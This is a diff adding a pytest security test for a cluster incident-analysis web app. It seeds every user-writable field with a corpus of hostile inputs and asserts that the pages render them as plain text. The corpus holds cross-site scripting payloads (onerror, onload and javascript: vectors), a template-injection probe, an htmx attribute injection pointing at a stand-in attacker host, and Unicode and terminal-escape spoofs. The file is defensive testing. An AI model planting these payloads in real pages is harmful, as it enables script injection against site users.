@@ -1,0 +1,172 @@
+"""Whatever a cluster says is text: no name, value, message or alert becomes markup, a link or a template."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import pytest
+
+from app.core.model import Actor, ActorSource, Batch, FieldDiff, Incident, Ranking, Resource
+from app.store import incidents
+from app.store.database import Database
+from app.store.partitions import ensure
+from app.store.record import record
+from app.store.tokens import Purpose
+from app.web.routes import create_app
+from tests.web import world
+from tests.web.conftest import Site, deps
+
+CORPUS = (
+    "<img src=x onerror=alert(1)>",
+    '" onfocus=alert(1) autofocus x="',
+    "' onmouseover='alert(1)",
+    "javascript:alert(1)",
+    "</script><script>alert(1)</script>",
+    "{{7*7}}{% raise %}",
+    '"><a data-hx-get="//evil.example" hx-get="//evil.example" hx-on:load="alert(1)">',
+    "</svg><svg onload=alert(1)>",
+    "\u202egnp.exe\u200b",
+    "&lt;b&gt;&amp;#x3C;",
+    "a\tb\nc\x1b[2J",
+)
+ALL = " ".join(CORPUS)
+NAME = ALL.replace("/", "").replace("%", "")  # the two characters that no object's name may hold
+
+
+class Markup(HTMLParser):
+    """Every element of a page with its attributes, and its text."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def hostile() -> tuple[Batch, Incident, Ranking]:
+    """The world with the corpus wherever somebody else may write."""
+    change = replace(
+        world.CULPRIT,
+        resource=Resource(world.CLUSTER, "apps", "Deployment", "payments", NAME),
+        uid=ALL,
+        summary=ALL,
+        actor=Actor(ALL, ActorSource.AUDIT, user_agent=ALL, pod=ALL, impersonator=ALL),
+        diffs=(
+            FieldDiff(("metadata", "annotations", ALL), "add", None, ALL),
+            FieldDiff(("data", "x"), "replace", {ALL: ALL}, [ALL]),
+        ),
+    )
+    alert = replace(
+        world.alert(), reason=ALL, message=ALL, severity=ALL, labels=((ALL, ALL), ("runbook_url", CORPUS[3]))
+    )
+    ranking = world.ranking()
+    suspect = ranking.suspects[0]
+    ranking = replace(
+        ranking,
+        onset=replace(ranking.onset, found_in=ALL),
+        suspects=(
+            replace(
+                suspect, change=change, evidence=tuple(replace(reason, sentence=ALL) for reason in suspect.evidence)
+            ),
+        ),
+        fights=tuple(replace(fight, path_text=ALL, writers=(ALL, ALL), values=(ALL,)) for fight in ranking.fights),
+        sparks=tuple(replace(spark, title=ALL, unit=ALL) for spark in ranking.sparks),
+        callers=tuple(replace(caller, user=ALL, resource=ALL, verb=ALL) for caller in ranking.callers),
+        not_measured=(ALL,),
+    )
+    batch = Batch(
+        cluster=world.CLUSTER,
+        changes=(change,),
+        objects=(replace(world.a_state(change), state={"data": {ALL: ALL}}),),
+        rollouts=tuple(
+            replace(one, resource=change.resource, uid=ALL, images=(ALL,)) for one in world.rollouts_of([world.CULPRIT])
+        ),
+        symptoms=tuple(
+            replace(one, reason=ALL, message=ALL, fingerprint=f"x{n}", workload=change.resource)
+            for n, one in enumerate(world.symptoms())
+        ),
+        gaps=(replace(world.gap(), why=ALL, kind=ALL),),
+    )
+    return batch, replace(world.incident(), title=ALL, severity=ALL, alerts=(alert,), status=ALL), ranking
+
+
+@pytest.fixture(scope="module")
+async def hostile_site(database: Database) -> Site:
+    """The site of a cluster whose every word is an attack."""
+    batch, incident, ranking = hostile()
+    async with database.write.begin() as conn:
+        await record(conn, batch)
+        await incidents.save_incident(conn, incident)
+        await ensure(conn, "rankings", [ranking.ranked_at])
+        await incidents.save_ranking(conn, ranking)
+    made = Site(create_app(deps(database)), database)
+    made.bearer["viewer"] = await made.token(Purpose.API)
+    return made
+
+
+PAGES = (
+    "/",
+    f"/incidents/{world.incident().id}",
+    f"/incidents/{world.incident().id}?rows=all&derived=shown",
+    f"/_/incidents/{world.incident().id}?rows=all",
+    f"/changes/{world.CULPRIT.id}",
+    "/_/changes?derived=shown",
+    "/changes?derived=shown",
+)
+
+
+async def markup(site: Site, path: str, *, status: int = 200, **params: str) -> tuple[str, Markup]:
+    async with site.client() as client:
+        answer = await client.get(path, params=params or None)
+    assert answer.status_code == status, answer.text[:500]
+    assert answer.headers["content-type"].startswith("text/html")
+    parsed = Markup()
+    parsed.feed(answer.text)
+    return answer.text, parsed
+
+
+def assert_harmless(page: Markup) -> None:
+    for tag, attributes in page.elements:
+        assert tag not in {"img", "iframe", "object", "embed", "base", "style"}, tag
+        assert tag != "script" or (attributes.get("src") or "").startswith("/static/")
+        for name, value in attributes.items():
+            assert not name.startswith("on"), (tag, name)
+            assert name not in {"style", "srcdoc", "autofocus", "x=", "data-hx-on", "hx-on:load"}, (tag, name)
+            if name in {"href", "src", "action", "formaction", "hx-get", "data-hx-get"}:
+                assert (value or "").startswith(("/", "#")), (tag, name, value)
+                assert not (value or "").startswith("//"), (tag, name, value)
+    assert "49" not in page.text.replace("149", "").split()
+
+
+@pytest.mark.parametrize("path", PAGES)
+async def test_no_word_of_the_cluster_becomes_markup(hostile_site: Site, path: str) -> None:
+    source, page = await markup(hostile_site, path)
+    assert_harmless(page)
+    assert "{{7*7}}" in source  # it is shown, as it was written
+    assert "<img src=x" not in source
+
+
+async def test_no_parameter_becomes_markup(hostile_site: Site) -> None:
+    for name in ("text", "kind", "namespace", "actor", "cluster"):
+        source, page = await markup(hostile_site, "/changes", **{name: CORPUS[0] + CORPUS[1]})
+        assert_harmless(page)
+        assert "<img" not in source
+    source, page = await markup(hostile_site, "/changes", status=422, **{CORPUS[0]: "1"})
+    assert_harmless(page)
+    assert "<img" not in source
+
+
+async def test_an_objects_page_is_found_by_any_name(hostile_site: Site) -> None:
+    _, page = await markup(hostile_site, f"/incidents/{world.incident().id}")
+    address = next(
+        a["href"] for tag, a in page.elements if tag == "a" and (a.get("href") or "").startswith("/objects/")
+    )
+    source, found = await markup(hostile_site, str(address))
+    assert_harmless(found)
+    assert "<img src=x" not in source
